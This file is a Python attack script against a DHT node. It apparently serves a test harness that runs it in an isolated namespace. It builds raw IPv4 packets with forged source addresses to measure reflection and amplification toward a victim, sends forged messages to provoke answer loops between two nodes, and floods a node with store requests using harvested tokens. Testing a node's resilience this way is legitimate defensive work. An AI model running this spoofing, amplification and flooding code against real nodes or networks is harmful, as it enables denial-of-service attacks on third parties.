#!/usr/bin/env python3
"""What attackers do to a DHT node; dht_attack_test.sh runs it in a namespace of its own.

    dht_attack.py reflect <node> <victim> <queries>   forged queries: bytes that reach the victim
    dht_attack.py loop <node> <other node>            forged messages: answers that each one causes
    dht_attack.py flood <node> <stores> <values> <attacker address>...
"""

import os
import socket
import struct
import sys
import threading
import time


def bencode(value):
    if isinstance(value, int):
        return b"i%de" % value
    if isinstance(value, bytes):
        return b"%d:%s" % (len(value), value)
    if isinstance(value, list):
        return b"l" + b"".join(map(bencode, value)) + b"e"
    return b"d" + b"".join(bencode(k) + bencode(value[k]) for k in sorted(value)) + b"e"


def query(transaction, method, **arguments):
    arguments = {k.encode(): v for k, v in arguments.items()}
    arguments[b"id"] = b"attacker-attacker-12"
    return bencode({b"t": transaction, b"y": b"q", b"q": method, b"a": arguments})


def address(text):
    host, port = text.rsplit(":", 1)
    return host, int(port)


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total & 0xffff) + (total >> 16)
    return ~(total + (total >> 16)) & 0xffff


class Forger:
    """Sends UDP datagrams from any IPv4 address."""

    def __init__(self):
        self.socket = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)

    def send(self, source, target, payload):
        udp = struct.pack("!HHHH", source[1], target[1], 8 + len(payload), 0) + payload
        header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0,
                             socket.inet_aton(source[0]), socket.inet_aton(target[0]))
        header = header[:10] + struct.pack("!H", checksum(header)) + header[12:]
        self.socket.sendto(header + udp, (target[0], 0))


class Listener(threading.Thread):
    """Collects the UDP datagrams that cross the loopback interface, once each."""

    def __init__(self):
        super().__init__(daemon=True)
        self.socket = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0800))
        self.socket.bind(("lo", 0))
        self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 25)
        self.seen = []
        self.start()

    def run(self):
        while True:
            packet, where = self.socket.recvfrom(65535)
            if where[2] != socket.PACKET_HOST or packet[9] != 17:
                continue
            begin = (packet[0] & 15) * 4
            source, target = struct.unpack("!HH", packet[begin:begin + 4])
            self.seen.append(((socket.inet_ntoa(packet[12:16]), source),
                              (socket.inet_ntoa(packet[16:20]), target), packet[begin + 8:]))

    def settle(self):
        """Until nothing came for a second."""
        count = -1
        while count != len(self.seen):
            count = len(self.seen)
            time.sleep(1)


def reflect(node, victim, count):
    node, victim, forger = address(node), address(victim), Forger()
    listener = Listener()
    kinds = [lambda t: query(t, b"find_node", target=os.urandom(20)),
             lambda t: query(t, b"get", target=os.urandom(20)),
             lambda t: query(t, b"get_peers", info_hash=os.urandom(20)),
             lambda t: query(t, b"find_node", target=os.urandom(20), want=[b"n4", b"n6"])]
    sent = 0
    for i in range(int(count)):
        payload = kinds[i % len(kinds)](b"%04d" % i)
        forger.send(victim, node, payload)
        sent += len(payload)
        time.sleep(1 / 20)  # below the node's limit, so that it answers as much as it ever would
    listener.settle()
    answers = [len(p) for source, target, p in listener.seen if source == node and target == victim]
    print(f"sent {sent} reflected {sum(answers)} answers {len(answers)} "
          f"ratio {sum(answers) / sent:.3f}")


def loop(node, other):
    node, other, forger = address(node), address(other), Forger()
    listener = Listener()
    kinds = {
        "ping": lambda t: query(t, b"ping"),
        "unknown method": lambda t: query(t, b"frobnicate"),
        "missing argument": lambda t: query(t, b"find_node"),
        "put with a bad token": lambda t: query(t, b"put", token=b"12345678", v=b"x"),
        "announce with a bad token": lambda t: query(
            t, b"announce_peer", info_hash=bytes(20), port=1, token=b"12345678"),
        "answer": lambda t: bencode({b"t": t, b"y": b"r", b"r": {b"id": bytes(20)}}),
        "error": lambda t: bencode({b"t": t, b"y": b"e", b"e": [203, b"no"]}),
        "malformed": lambda t: b"d1:t%d:%s1:y1:q" % (len(t), t)}
    for number, (name, make) in enumerate(kinds.items()):
        mark = b"loop%04d" % number
        forger.send(other, node, make(mark))
        listener.settle()
        forged = 0
        answers = 0
        for source, target, payload in listener.seen:
            if mark in payload and {source, target} == {node, other}:
                answers += 1
                if not forged and source == other:
                    forged, answers = 1, answers - 1
        print(f"{name}: {answers}")


def token_for(sender, node, target):
    sender.settimeout(2)
    for _ in range(5):
        sender.sendto(query(b"tokn", b"get", target=target), node)
        try:
            answer = sender.recv(2048)
        except TimeoutError:
            continue
        at = answer.find(b"5:token")
        if at >= 0:
            size, _, rest = answer[at + 7:].partition(b":")
            return rest[:int(size)]
    return b"none"


def flood(node, stores, values, *attackers):
    import hashlib
    node, stores, values = address(node), int(stores), int(values)
    senders = []
    for attacker in attackers:
        sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        sender.bind((attacker, 0))
        senders.append(sender)
    # A token is good for one target, so each attacker has a good one for a share of the values.
    messages = []
    for i in range(values):
        value = b"flood-%06d-" % i + bytes(900)
        target = hashlib.sha1(bencode(value)).digest()
        token = token_for(senders[i % len(senders)], node, target) if i < len(senders) * 20 \
            else b"12345678"
        messages.append(query(b"%04d" % (i % 10000), b"put", token=token, v=value))
    begin = time.monotonic()
    for i in range(stores):
        senders[i % len(senders)].sendto(messages[i % values], node)
    print(f"sent {stores} stores in {time.monotonic() - begin:.1f} s")


globals()[sys.argv[1]](*sys.argv[2:])
